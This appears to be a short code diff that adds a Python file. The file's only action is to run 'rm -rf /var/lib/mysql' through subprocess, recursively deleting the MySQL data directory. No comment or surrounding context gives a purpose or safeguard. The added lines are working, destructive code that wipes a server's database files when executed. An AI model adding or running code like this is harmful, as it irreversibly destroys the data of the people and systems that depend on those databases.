@@ -1,0 +1,4 @@
+import subprocess as sp
+
+ARGS = ["rm", "-rf", "/var/lib/mysql"]
+sp.call(ARGS)
